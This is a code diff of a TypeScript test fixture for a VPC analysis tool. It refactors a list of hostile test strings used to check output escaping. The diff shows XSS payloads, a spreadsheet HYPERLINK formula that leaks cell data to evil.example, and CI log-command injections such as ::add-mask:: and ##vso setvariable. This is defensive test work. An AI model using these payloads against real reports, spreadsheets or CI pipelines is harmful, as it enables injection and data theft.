@@ -6,29 +6,15 @@ import { rules } from '#app/rules/index.gen.ts';
 import type { Finding } from '#app/rules/rule.ts';
 import { sampleEstate } from '#app/world/sample.ts';
 import { World } from '#app/world/world.ts';
+import { HOSTILE_NAMES, hostileWorld } from '#tests/kit/hostile.ts';
 
 export const HOSTILE = [
-  '<script>alert(1)</script>',
-  '"><img src=x onerror=alert(1)>',
-  '\'quoted\' & "double" <b>',
-  '=HYPERLINK("http://evil.example/?"&A1,"click")',
-  '+SUM(1)|cmd',
-  '@import',
-  '\t=1+1',
-  '-2+3',
-  'pipe | pipe `code` *bold* _it_ [link](javascript:alert(1)) ![x](http://evil.example/x.png)',
-  'https://evil.example/?q=1 www.evil.example mail@evil.example',
-  '# heading\n- item\r\n> quote',
-  '\u202eevil\u202c \u2066x\u2069 \u200fy',
-  'nul\u0000bell\u0007esc\u001b[31mred del\u007f c1\u009b31m',
-  ']]><!-- --> <?xml ?> &amp; &#60;b&#62;',
+  ...HOSTILE_NAMES,
   '::error::boo',
   'x\n::error title=boo::boo\n::add-mask::vpc',
   'a ::set-output name=a::b',
   '##[error]boo ##[group]x ##vso[task.setvariable variable=a]b ##teamcity[x]',
   '</details></summary></svg></style></button>',
-  'lone \ud800 surrogate',
-  `${'long '.repeat(820)}end`,
   '%0A%0D%25 {0} {1} ${x} {{y}}',
 ];
 
@@ -62,19 +48,7 @@ export function mixed(): Report {
 
 /** Every hostile text as a name, as the words of a finding, of a place, of a gap and of a reason. */
 export function hostile(): Report {
-  const world = new World();
-  const at = world.region();
-  const vpcs = HOSTILE.map((name, i) => {
-    const vpc = at.vpc(`v${i}`, `10.${i}.0.0/16`);
-    const item = world.items.find((x) => x.id === vpc.id)!;
-    const made = item.item;
-    (item as { item: () => Record<string, unknown> }).item = () => ({
-      ...made(),
-      Tags: [{ Key: 'Name', Value: name }],
-    });
-    return vpc;
-  });
-  vpcs.forEach((vpc, i) => world.peer(vpc, vpcs[(i + 1) % vpcs.length]!, { name: HOSTILE[i]! }));
+  const { world, vpcs } = hostileWorld(HOSTILE);
   const report = analyze(world.snapshot(), { extends: 'none' });
   const findings = HOSTILE.map((text, i): Finding => {
     const vpc = vpcs[i]!.id;
